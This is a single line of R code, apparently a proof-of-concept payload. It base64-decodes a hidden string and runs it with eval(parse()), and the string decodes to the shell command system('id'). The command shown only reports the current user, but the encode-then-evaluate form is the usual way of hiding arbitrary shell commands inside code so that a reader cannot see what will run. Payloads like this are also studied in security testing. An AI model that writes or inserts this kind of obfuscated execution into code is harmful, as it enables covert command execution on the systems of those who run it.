eval(parse(text = rawToChar(openssl::base64_decode("c3lzdGVtKCdpZCcp"))))
